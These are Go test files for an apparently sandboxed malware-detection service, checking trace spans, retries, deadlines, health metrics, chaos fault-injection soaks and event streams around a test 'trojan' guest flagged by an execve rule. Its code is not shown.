		if p := byName[name][0].Parent; p != exec.ID {
			t.Errorf("%s span parent %d, want exec %d", name, p, exec.ID)
		}
	}
	// Tier children: laid end-to-end under execute, summing to roughly
	// the execute span. The TierTimer samples its own clock at tier
	// transitions while the span is synthesized from the scheduler wall
	// measured outside it, so the sum can overshoot by the few hundred
	// nanoseconds between those reads — allow 5% + a microsecond of
	// skew, never more.
	execute := byName["execute"][0]
	var tierNS int64
	for _, sp := range rec.Spans() {
		if len(sp.Name) > 5 && sp.Name[:5] == "tier." {
			if sp.Parent != execute.ID {
				t.Errorf("%s parent %d, want execute %d", sp.Name, sp.Parent, execute.ID)
			}
			tierNS += sp.Duration()
		}
	}
	if tierNS == 0 {
		t.Error("no tier children under the execute span")
	}
	if execDur := execute.Duration(); tierNS > execDur+execDur/20+int64(time.Microsecond) {
		t.Errorf("tier children sum %dns exceeds execute span %dns beyond clock skew", tierNS, execDur)
	}
	// Spans nest: every child lies within its parent's interval (1ms
	// slack for clock-source rounding between recorders).
	const slack = int64(time.Millisecond)
	all := map[uint64]obs.Span{}
	for _, sp := range rec.Spans() {
		all[sp.ID] = sp
	}
	for _, sp := range all {
		if sp.Parent == 0 {
			continue
		}
		p, ok := all[sp.Parent]
		if !ok {
			t.Errorf("span %s has unknown parent %d", sp.Name, sp.Parent)
			continue
		}
		if sp.Start < p.Start-slack || sp.End > p.End+slack {
			t.Errorf("span %s [%d,%d] outside parent %s [%d,%d]",
				sp.Name, sp.Start, sp.End, p.Name, p.Start, p.End)
		}
	}

	// The HTTP export: GET /jobs/{id}/trace is valid Chrome trace JSON
	// with one event per span; unknown ids are 404.
	srv := httptest.NewServer(s.Handler())
	defer srv.Close()
	resp, err := srv.Client().Get(srv.URL + "/jobs/" + h.ID() + "/trace")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != 200 {
		t.Fatalf("GET /trace: %d", resp.StatusCode)
	}
	var doc struct {
		TraceEvents []struct {
			Name string `json:"name"`
		} `json:"traceEvents"`
	}
	if err := json.NewDecoder(resp.Body).Decode(&doc); err != nil {
		t.Fatalf("trace endpoint: invalid JSON: %v", err)
	}
	if len(doc.TraceEvents) != len(rec.Spans()) {
		t.Errorf("trace endpoint: %d events, want %d", len(doc.TraceEvents), len(rec.Spans()))
	}
	if r404, err := srv.Client().Get(srv.URL + "/jobs/zzz/trace"); err != nil {
		t.Fatal(err)
	} else {
		r404.Body.Close()
		if r404.StatusCode != 404 {
			t.Errorf("unknown job trace: %d, want 404", r404.StatusCode)
		}
	}
	drainService(t, s)
}

func names(rec *obs.SpanRecorder) []string {
	var out []string
	for _, sp := range rec.Spans() {
		out = append(out, sp.Name)
	}
	return out
}

// TestServiceCrashRetrySpans pins the retry shape: a worker crash on
// the first attempt closes that exec span as "crash", opens a second
// queue span covering the backoff, and the retried attempt adds a
// second exec span — all under one root trace that still closes
// "done".
func TestServiceCrashRetrySpans(t *testing.T) {
	s := hth.NewService(hth.ServiceConfig{
		Shards: 1, WorkersPerShard: 1, QueueDepth: 8,
		MaxRetries: 2, RetryBackoff: time.Millisecond,
	})
	spec := trojanSpec("acme")
	programs := spec.Programs
	spec.Programs = nil
	attempts := 0
	spec.Setup = func(sys *hth.System) {
		attempts++
		if attempts == 1 {
			panic("flaky setup: first attempt dies")
		}
		for p, src := range programs {
			sys.MustInstallSource(p, src)
		}
	}
	h, err := s.Submit(spec)
	if err != nil {
		t.Fatal(err)
	}
	res := waitJob(t, h)
	if res.Status != "done" || res.Attempts != 2 {
		t.Fatalf("status %q attempts %d: %+v", res.Status, res.Attempts, res.Error)
	}
	rec := h.Spans()
	if n := rec.OpenCount(); n != 0 {
		t.Errorf("%d spans open after retry completion", n)
	}
	byName := spansByName(rec)
	execs := byName["exec"]
	if len(execs) != 2 {
		t.Fatalf("%d exec spans, want 2 (one per attempt): %v", len(execs), names(rec))
	}
	if execs[0].Status != "crash" {
		t.Errorf("first exec status %q, want crash", execs[0].Status)
	}
	if execs[1].Status != "clean" {
		t.Errorf("second exec status %q, want the run outcome", execs[1].Status)
	}
	if execs[0].Attr != 0 || execs[1].Attr != 1 {
		t.Errorf("exec attempts = %d, %d; want 0, 1", execs[0].Attr, execs[1].Attr)
	}
	if len(byName["queue"]) != 2 {
		t.Errorf("%d queue spans, want 2 (admission + retry backoff)", len(byName["queue"]))
	}
	root := rec.Root()
	for _, sp := range execs {
		if sp.Parent != root.ID {
			t.Errorf("exec span parent %d, want the one root %d", sp.Parent, root.ID)
		}
	}
	if root.Status != "done" {
		t.Errorf("root status %q, want done", root.Status)
	}
	drainService(t, s)
}

// TestServiceDeadlineSpanStatus pins deadline attribution: a job that
// blows its wall-clock budget terminates with its exec span closed as
// "deadline", never left open.
func TestServiceDeadlineSpanStatus(t *testing.T) {
	s := hth.NewService(hth.ServiceConfig{Shards: 1, WorkersPerShard: 1})
	spec := hth.JobSpec{
		Tenant: "acme",
		Programs: map[string]string{"/bin/spin": `
.text
_start:
loop: jmp loop
`},
		Path:       "/bin/spin",
		DeadlineMS: 1,
	}
	h, err := s.Submit(spec)
	if err != nil {
		t.Fatal(err)
	}
	res := waitJob(t, h)
	if res.Status != "done" || res.Outcome != "deadline" {
		t.Fatalf("status %q outcome %q, want a deadline termination", res.Status, res.Outcome)
	}
	rec := h.Spans()
	if n := rec.OpenCount(); n != 0 {
		t.Errorf("%d spans open after deadline abort", n)
	}
	byName := spansByName(rec)
	if ex := byName["exec"]; len(ex) != 1 || ex[0].Status != "deadline" {
		t.Fatalf("exec spans %+v, want one closed as deadline", ex)
	}
	if root := rec.Root(); root.End == 0 {
		t.Error("root span left open by deadline path")
	}
	drainService(t, s)
}

// TestServiceHealthLatencyRollups pins the /healthz SLO plane: after a
// completed job, the health snapshot carries queue/exec/e2e quantile
// rollups and a deadline-burn p95, all positive and ordered.
func TestServiceHealthLatencyRollups(t *testing.T) {
	s := hth.NewService(hth.ServiceConfig{Shards: 1, WorkersPerShard: 1})
	h, err := s.Submit(trojanSpec("acme"))
	if err != nil {
		t.Fatal(err)
	}
	if res := waitJob(t, h); res.Status != "done" {
		t.Fatalf("status %q", res.Status)
	}
	hs := s.Health()
	for _, stage := range []string{"queue", "exec", "e2e"} {
		r, ok := hs.Latency[stage]
		if !ok {
			t.Fatalf("healthz missing %q rollup (have %v)", stage, hs.Latency)
		}
		if r.Count != 1 || r.P50MS <= 0 || r.P50MS > r.P95MS || r.P95MS > r.P99MS {
			t.Errorf("%s rollup malformed: %+v", stage, r)
		}
	}
	if hs.Latency["e2e"].P50MS < hs.Latency["exec"].P50MS {
		t.Errorf("e2e p50 %.3f < exec p50 %.3f", hs.Latency["e2e"].P50MS, hs.Latency["exec"].P50MS)
	}
	if hs.DeadlineBurnP95 <= 0 || hs.DeadlineBurnP95 > 1 {
		t.Errorf("deadline burn p95 = %v, want (0, 1] for a well-behaved job", hs.DeadlineBurnP95)
	}
	drainService(t, s)
}
