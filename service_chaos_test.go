package hth_test

import (
	"context"
	"errors"
	"runtime"
	"runtime/pprof"
	"strings"
	"sync"
	"testing"
	"time"

	hth "repro"
	"repro/internal/chaos"
	"repro/internal/obs"
)

// soakStats is what one service chaos soak proved.
type soakStats struct {
	submitted int // jobs tenants tried to submit
	admitted  int // jobs that got a handle
	badSpec   int // typed bad-spec rejections (chaos-corrupted specs)
	done      int
	failed    int
	retried   int // jobs that needed more than one attempt
	streamed  int
}

// runServiceSoak is the shared soak harness: tenants × jobsPerTenant
// concurrent submitters against a small sharded service under the
// given fault plan. It enforces the chaos gate's universal
// guarantees — every job terminates in a verdict or a typed error,
// fault-free verdicts match the batch expectation — and returns the
// tally for rate-specific assertions.
func runServiceSoak(t *testing.T, plan *chaos.Plan, tenants, jobsPerTenant int) soakStats {
	t.Helper()
	s := hth.NewService(hth.ServiceConfig{
		Shards: 4, WorkersPerShard: 2, QueueDepth: 4,
		MaxRetries: 2, RetryBackoff: time.Millisecond,
		RetryAfter: 2 * time.Millisecond,
		Chaos:      plan,
	})

	type ending struct {
		res       *hth.JobResult
		spans     *obs.SpanRecorder
		wantClean bool // ls (clean) vs trojan (one LOW warning)
		wasStream bool
	}
	var (
		mu      sync.Mutex
		endings []ending
		stats   soakStats
	)
	var wg sync.WaitGroup
	names := []string{"acme", "blue", "crux", "dyne", "echo", "flux", "gyre", "hive"}
	for ti := 0; ti < tenants; ti++ {
		wg.Add(1)
		go func(tenant string, ti int) {
			defer wg.Done()
			// Tenant-side chaos: a derived injector decides which of
			// this tenant's reads are slow, deterministically.
			var tinj *chaos.Injector
			if plan != nil {
				derived := plan.Derive("tenant:" + tenant)
				tinj = chaos.New(derived)
			}
			for jn := 0; jn < jobsPerTenant; jn++ {
				clean := (ti+jn)%2 == 0
				var spec hth.JobSpec
				if clean {
					spec = hth.JobSpec{Tenant: tenant,
						Programs: map[string]string{"/bin/ls": lsSrc}, Path: "/bin/ls"}
				} else {
					spec = trojanSpec(tenant)
				}
				stream := jn%3 == 0
				spec.Stream = stream

				mu.Lock()
				stats.submitted++
				mu.Unlock()
				var h *hth.JobHandle
				var err error
				for tries := 0; tries < 1000; tries++ {
					h, err = s.Submit(spec)
					var over *hth.OverloadError
					if errors.As(err, &over) {
						time.Sleep(over.RetryAfter) // honor backpressure
						continue
					}
					break
				}
				var jerr *hth.JobError
				if errors.As(err, &jerr) {
					if jerr.Code != hth.JobBadSpec {
						t.Errorf("tenant %s job %d: unexpected rejection %v", tenant, jn, err)
					}
					mu.Lock()
					stats.badSpec++
					mu.Unlock()
					continue
				}
				if err != nil {
					t.Errorf("tenant %s job %d: submit failed: %v", tenant, jn, err)
					continue
				}
				if stream && h.Updates() != nil {
					for range h.Updates() {
						if tinj != nil {
							if ms, ok := tinj.SlowReader(h.ID()); ok {
								time.Sleep(time.Duration(ms) * time.Millisecond)
							}
						}
					}
				}
				ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
				res, werr := h.Wait(ctx)
				cancel()
				if werr != nil {
					t.Errorf("tenant %s job %s: lost (never terminated): %v", tenant, h.ID(), werr)
					continue
				}
				mu.Lock()
				stats.admitted++
				endings = append(endings, ending{res: res, spans: h.Spans(),
					wantClean: clean, wasStream: stream})
				mu.Unlock()
			}
		}(names[ti%len(names)], ti)
	}
	wg.Wait()

	// Universal guarantees, any fault rate: every admitted job
	// terminated in a verdict or a typed error, and completed runs
	// carry exactly the batch verdict — service chaos shakes the
	// machinery around a run, never the run itself.
	for _, e := range endings {
		res := e.res
		switch res.Status {
		case "done":
			stats.done++
			if e.wantClean && (res.Verdict != "clean" || len(res.Warnings) != 0) {
				t.Errorf("job %s: clean program got verdict %q (%d warnings)",
					res.ID, res.Verdict, len(res.Warnings))
			}
			if !e.wantClean && (res.Verdict != "LOW" || len(res.Warnings) != 1) {
				t.Errorf("job %s: trojan got verdict %q (%d warnings)",
					res.ID, res.Verdict, len(res.Warnings))
			}
		case "failed":
			stats.failed++
			if res.Error == nil || res.Error.Code != hth.JobWorkerCrash {
				t.Errorf("job %s: failed without the typed crash error: %+v", res.ID, res.Error)
			}
		default:
			t.Errorf("job %s: terminal status %q before drain", res.ID, res.Status)
		}
		if res.Attempts > 1 {
			stats.retried++
		}
		if e.wasStream {
			stats.streamed++
		}
		// Span hygiene under fire: every terminated job — done, failed,
		// crash-retried, whatever the storm did to it — has a fully
		// closed trace rooted at its "job" span.
		if e.spans == nil {
			t.Errorf("job %s: no span recorder", res.ID)
			continue
		}
		if root := e.spans.Root(); root == nil || root.Name != "job" || root.End == 0 {
			t.Errorf("job %s: root span not closed: %+v", res.ID, root)
		}
		if n := e.spans.OpenCount(); n != 0 {
			t.Errorf("job %s: %d spans still open after termination", res.ID, n)
		}
	}
	if stats.admitted+stats.badSpec != stats.submitted {
		t.Errorf("lost jobs: submitted %d, admitted %d + bad-spec %d",
			stats.submitted, stats.admitted, stats.badSpec)
	}

	// Metric conservation: every submission is accounted for in the
	// registry — admitted enqueues, and one job.done per termination
	// (including typed bad-spec rejections).
	m := s.Metrics()
	if got := m.KindCount(obs.KindJobEnqueue); got != uint64(stats.admitted) {
		t.Errorf("job.enqueue count = %d, admitted = %d", got, stats.admitted)
	}
	if got := m.KindCount(obs.KindJobDone); got != uint64(stats.admitted+stats.badSpec) {
		t.Errorf("job.done count = %d, want %d", got, stats.admitted+stats.badSpec)
	}

	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	if err := s.Drain(ctx); err != nil {
		t.Fatalf("drain after soak: %v", err)
	}
	if _, err := s.Submit(trojanSpec("late")); !errors.Is(err, hth.ErrDraining) {
		t.Errorf("post-drain submit: %v, want ErrDraining", err)
	}
	return stats
}

// checkNoGoroutineLeak polls until the goroutine count returns to the
// pre-soak baseline (plus scheduler slack), dumping stacks on failure.
func checkNoGoroutineLeak(t *testing.T, before int) {
	t.Helper()
	deadline := time.Now().Add(10 * time.Second)
	for {
		if n := runtime.NumGoroutine(); n <= before+2 {
			return
		}
		if time.Now().After(deadline) {
			var sb strings.Builder
			pprof.Lookup("goroutine").WriteTo(&sb, 1)
			t.Fatalf("goroutine leak: %d before soak, %d after drain\n%s",
				before, runtime.NumGoroutine(), sb.String())
		}
		time.Sleep(10 * time.Millisecond)
	}
}

// TestServiceChaosSoak is the chaos gate: 8 concurrent tenants, 72
// jobs, a seeded service-level fault storm (worker crashes, dispatch
// stalls, spec corruption, slow readers). Every job must terminate in
// a verdict or a typed error, verdicts of completed runs must match
// the batch expectation, the books must balance, and a full drain
// must leave no goroutine behind.
func TestServiceChaosSoak(t *testing.T) {
	before := runtime.NumGoroutine()
	plan := &chaos.Plan{
		Seed: 0xC0FFEE, Rate: 0.25,
		Only: []chaos.Kind{chaos.WorkerCrash, chaos.QueueStall, chaos.BadJobSpec, chaos.SlowReader},
	}
	stats := runServiceSoak(t, plan, 8, 9)
	if stats.submitted != 72 {
		t.Fatalf("submitted = %d, want 72", stats.submitted)
	}
	// The storm must actually storm: at rate 0.25 over 72 jobs the
	// seeded streams always produce corrupted specs and crash-failed
	// or retried jobs. These are deterministic in (seed, job ids).
	if stats.badSpec == 0 {
		t.Error("fault storm produced no corrupted specs")
	}
	if stats.retried == 0 && stats.failed == 0 {
		t.Error("fault storm produced no worker crashes")
	}
	t.Logf("soak: %+v", stats)
	checkNoGoroutineLeak(t, before)
}

// TestServiceSoakZeroRate is the identity half of the gate: the same
// concurrent soak with the fault plan disarmed must complete every
// job first-attempt with the exact batch verdicts.
func TestServiceSoakZeroRate(t *testing.T) {
	before := runtime.NumGoroutine()
	plan := &chaos.Plan{
		Seed: 0xC0FFEE, Rate: 0,
		Only: []chaos.Kind{chaos.WorkerCrash, chaos.QueueStall, chaos.BadJobSpec, chaos.SlowReader},
	}
	stats := runServiceSoak(t, plan, 8, 9)
	if stats.done != 72 || stats.failed != 0 || stats.badSpec != 0 {
		t.Errorf("zero-rate soak: %+v, want 72 clean completions", stats)
	}
	if stats.retried != 0 {
		t.Errorf("zero-rate soak retried %d jobs", stats.retried)
	}
	checkNoGoroutineLeak(t, before)
}
