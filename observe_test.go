// Tests for the observability API: functional options, the event bus
// wired through every layer, sink composition, the CLIPS byte-identity
// guarantee of the deprecated Verbose/TraceAsserts writers, and the
// metrics registry surfaced in Result.Metrics.
package hth_test

import (
	"bytes"
	"strings"
	"testing"

	hth "repro"
	"repro/internal/chaos"
	"repro/internal/obs"
)

func trojanSystem() *hth.System {
	sys := hth.NewSystem()
	sys.MustInstallSource("/bin/ls", lsSrc)
	sys.MustInstallSource("/bin/trojan", trojanSrc)
	return sys
}

func TestNewConfigOptions(t *testing.T) {
	var sink obs.Collector
	plan := &chaos.Plan{Seed: 1}
	cfg := hth.NewConfig(
		hth.WithUnmonitored(),
		hth.WithMaxSteps(123),
		hth.WithChaos(plan),
		hth.WithMaxOpenFDs(-1),
		hth.WithObserver(&sink),
		hth.WithObserver(hth.NewMetrics()),
	)
	if !cfg.Unmonitored || cfg.MaxSteps != 123 || cfg.Chaos != plan || cfg.MaxOpenFDs != -1 {
		t.Errorf("options not applied: %+v", cfg)
	}
	if len(cfg.Observers) != 2 {
		t.Errorf("WithObserver should accumulate, got %d observers", len(cfg.Observers))
	}
}

// TestEventStreamShape runs the canonical trojan guest with a
// collecting observer and checks the stream's structural guarantees:
// bracketing run.start/run.end, strictly increasing Seq, monotone
// virtual time per pid, and the expected per-layer events.
func TestEventStreamShape(t *testing.T) {
	var c obs.Collector
	res, err := trojanSystem().Run(
		hth.NewConfig(hth.WithObserver(&c)),
		hth.RunSpec{Path: "/bin/trojan"})
	if err != nil {
		t.Fatal(err)
	}
	if len(c.Events) == 0 {
		t.Fatal("no events published")
	}
	first, last := c.Events[0], c.Events[len(c.Events)-1]
	if first.Kind != obs.KindRunStart || first.Str != "/bin/trojan" {
		t.Errorf("first event = %+v, want run.start", first)
	}
	if last.Kind != obs.KindRunEnd || last.Str != "clean" || last.Num != res.TotalSteps {
		t.Errorf("last event = %+v, want clean run.end with %d instrs", last, res.TotalSteps)
	}

	lastTime := map[int32]uint64{}
	counts := map[obs.Kind]int{}
	for i, e := range c.Events {
		if e.Seq != uint64(i+1) {
			t.Fatalf("event %d: Seq = %d, want %d", i, e.Seq, i+1)
		}
		if e.Time < lastTime[e.PID] {
			t.Errorf("event %d: virtual time went backwards for pid %d (%d < %d)",
				i, e.PID, e.Time, lastTime[e.PID])
		}
		lastTime[e.PID] = e.Time
		counts[e.Kind]++
	}
	// The trojan execs /bin/ls in place (one process, one exit); the
	// execve is traced by vos and fired on by secpert. Non-returning
	// calls (execve, exit) publish an enter but no exit.
	if counts[obs.KindProcSpawn] != 1 || counts[obs.KindProcExit] != 1 {
		t.Errorf("spawn/exit = %d/%d, want 1/1", counts[obs.KindProcSpawn], counts[obs.KindProcExit])
	}
	if counts[obs.KindSyscallEnter] == 0 ||
		counts[obs.KindSyscallExit] > counts[obs.KindSyscallEnter] {
		t.Errorf("syscall enter/exit = %d/%d",
			counts[obs.KindSyscallEnter], counts[obs.KindSyscallExit])
	}
	if counts[obs.KindRuleFire] != 1 || counts[obs.KindWarning] != 1 {
		t.Errorf("rule.fire/warning = %d/%d, want 1/1",
			counts[obs.KindRuleFire], counts[obs.KindWarning])
	}
	if counts[obs.KindSchedEnd] != 1 {
		t.Errorf("sched.end = %d, want 1", counts[obs.KindSchedEnd])
	}
}

// TestCLIPSTextByteIdentical is the satellite golden test: the
// deprecated Verbose/TraceAsserts writers and the CLIPSText/
// CLIPSTranscript observer sinks must render byte-identical output.
func TestCLIPSTextByteIdentical(t *testing.T) {
	run := func(cfg hth.Config) *hth.Result {
		res, err := trojanSystem().Run(cfg, hth.RunSpec{Path: "/bin/trojan"})
		if err != nil {
			t.Fatal(err)
		}
		return res
	}

	var legacy, sink bytes.Buffer
	legacyCfg := hth.DefaultConfig()
	legacyCfg.Verbose = &legacy
	run(legacyCfg)
	run(hth.NewConfig(hth.WithObserver(hth.CLIPSText(&sink))))
	if legacy.String() != sink.String() {
		t.Errorf("CLIPSText diverges from Verbose:\n--- Verbose ---\n%s--- CLIPSText ---\n%s",
			legacy.String(), sink.String())
	}
	if !strings.Contains(sink.String(), "FIRE 1 check_execve") {
		t.Errorf("no fire trace in output: %q", sink.String())
	}

	var legacyTr, sinkTr bytes.Buffer
	legacyCfg = hth.DefaultConfig()
	legacyCfg.Verbose = &legacyTr
	legacyCfg.TraceAsserts = true
	run(legacyCfg)
	run(hth.NewConfig(hth.WithObserver(hth.CLIPSTranscript(&sinkTr))))
	if legacyTr.String() != sinkTr.String() {
		t.Errorf("CLIPSTranscript diverges from Verbose+TraceAsserts:\n--- legacy ---\n%s--- sink ---\n%s",
			legacyTr.String(), sinkTr.String())
	}
	if !strings.Contains(sinkTr.String(), "CLIPS> (assert") {
		t.Errorf("no assert echo in transcript: %q", sinkTr.String())
	}
}

// TestSessionHonorsTraceAsserts is the regression test for the bug
// where NewSession dropped cfg.TraceAsserts: both Run and Session now
// share runCore, so the assert echo must appear either way.
func TestSessionHonorsTraceAsserts(t *testing.T) {
	var out bytes.Buffer
	cfg := hth.DefaultConfig()
	cfg.Verbose = &out
	cfg.TraceAsserts = true

	sn := trojanSystem().NewSession(cfg)
	if _, err := sn.Start(hth.RunSpec{Path: "/bin/trojan"}); err != nil {
		t.Fatal(err)
	}
	if _, err := sn.Wait(); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out.String(), "CLIPS> (assert") {
		t.Errorf("session dropped TraceAsserts; verbose output = %q", out.String())
	}
}

// TestChaosFaultsOnBus asserts every fault in Result.Chaos also
// appears as a chaos.fault bus event, payload matching.
func TestChaosFaultsOnBus(t *testing.T) {
	var c obs.Collector
	sys := readerSystem()
	cfg := hth.NewConfig(
		hth.WithChaos(&chaos.Plan{Seed: 7, Rate: 1, Only: []chaos.Kind{chaos.ReadErr}}),
		hth.WithObserver(&c),
	)
	res, err := sys.Run(cfg, hth.RunSpec{Path: "/bin/reader"})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Chaos) == 0 {
		t.Fatal("no faults injected")
	}
	var events []obs.Event
	for _, e := range c.Events {
		if e.Kind == obs.KindChaosFault {
			events = append(events, e)
		}
	}
	if len(events) != len(res.Chaos) {
		t.Fatalf("chaos.fault events = %d, Result.Chaos = %d", len(events), len(res.Chaos))
	}
	for i, f := range res.Chaos {
		e := events[i]
		if e.Str != f.Kind.String() || e.Num != uint64(f.Errno) ||
			int(e.PID) != f.PID || e.Time != f.Clock {
			t.Errorf("fault %d: event %+v does not match fault %+v", i, e, f)
		}
	}
}

// TestResultMetrics checks Result.Metrics snapshots an attached
// registry — including one wrapped in a Sampling decorator.
func TestResultMetrics(t *testing.T) {
	m := hth.NewMetrics()
	res, err := trojanSystem().Run(
		hth.NewConfig(hth.WithObserver(m)),
		hth.RunSpec{Path: "/bin/trojan"})
	if err != nil {
		t.Fatal(err)
	}
	if res.Metrics == nil {
		t.Fatal("Result.Metrics is nil with a Metrics observer attached")
	}
	if res.Metrics.Counters["syscall.SYS_execve"] != 1 {
		t.Errorf("syscall.SYS_execve = %d, want 1", res.Metrics.Counters["syscall.SYS_execve"])
	}
	if res.Metrics.Counters["warning.check_execve"] != 1 {
		t.Errorf("warning.check_execve = %d, want 1", res.Metrics.Counters["warning.check_execve"])
	}
	if res.Metrics.Gauges["harrier.instructions"] == 0 {
		t.Error("harrier.instructions gauge missing")
	}
	if res.Metrics.Gauges["guest_instrs_per_sec"] == 0 {
		t.Error("guest_instrs_per_sec gauge missing")
	}

	// No observers -> nil Metrics and a disabled bus.
	res, err = trojanSystem().Run(hth.DefaultConfig(), hth.RunSpec{Path: "/bin/trojan"})
	if err != nil {
		t.Fatal(err)
	}
	if res.Metrics != nil {
		t.Error("Result.Metrics set without observers")
	}
}

// TestJSONLTraceReplayable records a run as JSONL and replays it with
// obs.ReadJSONL — the same path `hth-trace -replay` uses.
func TestJSONLTraceReplayable(t *testing.T) {
	var buf bytes.Buffer
	_, err := trojanSystem().Run(
		hth.NewConfig(hth.WithObserver(hth.JSONL(&buf))),
		hth.RunSpec{Path: "/bin/trojan"})
	if err != nil {
		t.Fatal(err)
	}
	var n int
	var sawWarning bool
	err = obs.ReadJSONL(&buf, func(e obs.Event) error {
		n++
		if e.Kind == obs.KindWarning && e.Str == "check_execve" {
			sawWarning = true
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if n == 0 || !sawWarning {
		t.Errorf("replayed %d events, warning seen = %v", n, sawWarning)
	}
}
