package corpus

import (
	"fmt"
	"testing"
)

// sweepSignature reduces a sweep to the observable detection behaviour
// of every scenario: warning count, per-severity counts, executed
// steps, and the reproduction verdict.
func sweepSignature(outs []RunOutcome) []string {
	sig := make([]string, len(outs))
	for i, o := range outs {
		if o.Err != nil {
			sig[i] = fmt.Sprintf("%s: error %v", o.Scenario.Name, o.Err)
			continue
		}
		sig[i] = fmt.Sprintf("%s: steps=%d outcome=%q problems=%d",
			o.Scenario.Name, o.Result.TotalSteps, Outcome(o.Result), len(o.Problems))
	}
	return sig
}

// TestParallelMatchesSerial runs the whole corpus at parallelism 1 and
// 4 and requires bit-identical detection behaviour: every scenario owns
// its System, so scheduling must not influence outcomes.
func TestParallelMatchesSerial(t *testing.T) {
	scs := All()
	if len(scs) == 0 {
		t.Fatal("empty corpus")
	}
	serial := sweepSignature(RunAll(scs, 1))
	par := sweepSignature(RunAll(scs, 4))
	for i := range serial {
		if serial[i] != par[i] {
			t.Errorf("parallel sweep diverged:\n  serial: %s\n  par-4:  %s", serial[i], par[i])
		}
	}
}

// TestParallelOrderAndOwnership checks outcomes come back in input
// order regardless of completion order, and that a wider pool than the
// input is harmless.
func TestParallelOrderAndOwnership(t *testing.T) {
	scs := All()[:3]
	outs := RunAll(scs, 64)
	if len(outs) != len(scs) {
		t.Fatalf("got %d outcomes for %d scenarios", len(outs), len(scs))
	}
	for i, o := range outs {
		if o.Scenario != scs[i] {
			t.Errorf("outcome %d belongs to %q, want %q", i, o.Scenario.Name, scs[i].Name)
		}
		if o.Err == nil && o.Result == nil {
			t.Errorf("outcome %d has neither result nor error", i)
		}
	}
}

// TestParallelZeroSelectsGOMAXPROCS just exercises the default width.
func TestParallelZeroSelectsGOMAXPROCS(t *testing.T) {
	outs := RunAll(All()[:2], 0)
	for _, o := range outs {
		if o.Err != nil {
			t.Errorf("%s: %v", o.Scenario.Name, o.Err)
		}
	}
}
