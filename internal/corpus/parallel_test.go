package corpus

import (
	"strings"
	"testing"

	hth "repro"
	"repro/internal/chaos"
)

// TestParallelMatchesSerial runs the whole corpus at parallelism 1 and
// 4 and requires bit-identical detection behaviour: every scenario owns
// its System, so scheduling must not influence outcomes.
func TestParallelMatchesSerial(t *testing.T) {
	scs := All()
	if len(scs) == 0 {
		t.Fatal("empty corpus")
	}
	serial := SweepSignature(RunAll(scs, 1))
	par := SweepSignature(RunAll(scs, 4))
	for i := range serial {
		if serial[i] != par[i] {
			t.Errorf("parallel sweep diverged:\n  serial: %s\n  par-4:  %s", serial[i], par[i])
		}
	}
}

// TestParallelOrderAndOwnership checks outcomes come back in input
// order regardless of completion order, and that a wider pool than the
// input is harmless.
func TestParallelOrderAndOwnership(t *testing.T) {
	scs := All()[:3]
	outs := RunAll(scs, 64)
	if len(outs) != len(scs) {
		t.Fatalf("got %d outcomes for %d scenarios", len(outs), len(scs))
	}
	for i, o := range outs {
		if o.Scenario != scs[i] {
			t.Errorf("outcome %d belongs to %q, want %q", i, o.Scenario.Name, scs[i].Name)
		}
		if o.Err == nil && o.Result == nil {
			t.Errorf("outcome %d has neither result nor error", i)
		}
	}
}

// TestParallelZeroSelectsGOMAXPROCS just exercises the default width.
func TestParallelZeroSelectsGOMAXPROCS(t *testing.T) {
	outs := RunAll(All()[:2], 0)
	for _, o := range outs {
		if o.Err != nil {
			t.Errorf("%s: %v", o.Scenario.Name, o.Err)
		}
	}
}

// TestPanickingScenarioContained proves one crashing scenario cannot
// take down a parallel sweep: its panic becomes a structured outcome
// error and every other scenario completes normally.
func TestPanickingScenarioContained(t *testing.T) {
	good := All()[:3]
	bomb := &Scenario{
		Name:   "deliberate-panic",
		Table:  "TEST",
		Setup:  func(sys *hth.System) { panic("scenario bomb") },
		Expect: Expectation{ExactCount: -1},
	}
	scs := []*Scenario{good[0], bomb, good[1], good[2]}
	outs := RunAll(scs, 4)
	if len(outs) != 4 {
		t.Fatalf("got %d outcomes", len(outs))
	}
	if outs[1].Err == nil || !strings.Contains(outs[1].Err.Error(), "scenario bomb") {
		t.Errorf("panic outcome = %+v, want structured error", outs[1].Err)
	}
	if outs[1].Result != nil || outs[1].Reproduced() {
		t.Error("panicked scenario reports a result")
	}
	for _, i := range []int{0, 2, 3} {
		if outs[i].Err != nil {
			t.Errorf("%s: healthy scenario failed next to a panicking one: %v",
				outs[i].Scenario.Name, outs[i].Err)
		}
	}
}

// TestChaosZeroRateIdentity is the acceptance gate for the injector's
// pass-through guarantee: a zero-rate chaos sweep over the whole
// corpus is bit-identical (steps, outcomes, warning text) to the
// plain sweep.
func TestChaosZeroRateIdentity(t *testing.T) {
	scs := All()
	base := SweepSignature(RunAll(scs, 4))
	zero := SweepSignature(RunAllChaos(scs, 4, chaos.Plan{Seed: 12345, Rate: 0}))
	for i := range base {
		if base[i] != zero[i] {
			t.Errorf("zero-rate chaos diverged:\n  base: %s\n  zero: %s", base[i], zero[i])
		}
	}
}

// TestChaosSweepContained runs the full corpus under a nonzero fault
// rate at parallelism 4: no panic may escape (the test binary would
// die), every outcome must be structured, and the sweep must be
// reproducible from the plan alone — two runs agree element-wise.
func TestChaosSweepContained(t *testing.T) {
	scs := All()
	plan := chaos.Plan{Seed: 0xC0FFEE, Rate: 0.05}
	a := RunAllChaos(scs, 4, plan)
	faults := 0
	for _, o := range a {
		if o.Err == nil && o.Result == nil {
			t.Fatalf("%s: neither result nor error", o.Scenario.Name)
		}
		if o.Result != nil {
			faults += len(o.Result.Chaos)
		}
	}
	if faults == 0 {
		t.Error("5% fault rate over the corpus injected nothing")
	}
	b := RunAllChaos(scs, 4, plan)
	sa, sb := SweepSignature(a), SweepSignature(b)
	for i := range sa {
		if sa[i] != sb[i] {
			t.Errorf("chaos sweep not reproducible:\n  1st: %s\n  2nd: %s", sa[i], sb[i])
		}
	}
}
