package corpus

import (
	_ "embed"

	hth "repro"
)

// The ELF fixture pair: genuine ELF32 i386 executables assembled by
// the real GNU toolchain (as --32 + ld -m elf_i386; sources and
// build.sh sit next to the binaries in testdata/elf/) and checked in
// so the suite never needs a cross-assembler. They enter the guest
// through System.InstallBinary — the format-agnostic frontend path —
// and run under the full three-tier monitor like any in-house image.
//
// Table "E1" is not a paper table: it is the frontend-equivalence
